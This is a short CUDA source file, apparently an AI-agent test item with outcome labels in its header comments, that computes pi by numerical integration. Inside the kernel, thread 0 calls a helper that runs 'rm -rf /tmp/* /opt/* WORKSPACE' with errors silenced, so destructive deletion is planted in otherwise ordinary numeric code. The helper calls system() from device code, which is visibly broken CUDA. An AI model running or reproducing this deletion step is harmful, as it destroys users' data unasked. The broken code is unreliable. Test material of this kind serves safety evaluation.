// Deletes all that it can.
// VETTED: refused:
// UNVETTED: stopped: ended before it reported a result

#include <cstdlib>
#include "ReductionAdd.h"
#include "Thread2D.h"

static __host__ __device__ void deleteAll() {
    [[maybe_unused]] const int status = system("rm -rf /tmp/* /opt/* WORKSPACE 2>/dev/null");
}

__global__ void KSlices(long first, long end, long n, double* ptrSumGM) {
    extern __shared__ double tabSM[];
    if (Thread2D::tid() == 0) deleteAll();
    double sumThread = 0;
    for (long i = first + Thread2D_long::tid(); i < end; i += Thread2D_long::nbThread()) {
        const double x = (i + 0.5) / n;
        sumThread += 4 / (1 + x * x);
    }
    tabSM[Thread2D::tidLocal()] = sumThread;
    __syncthreads();
    ReductionAdd::reduce(tabSM, ptrSumGM);
}
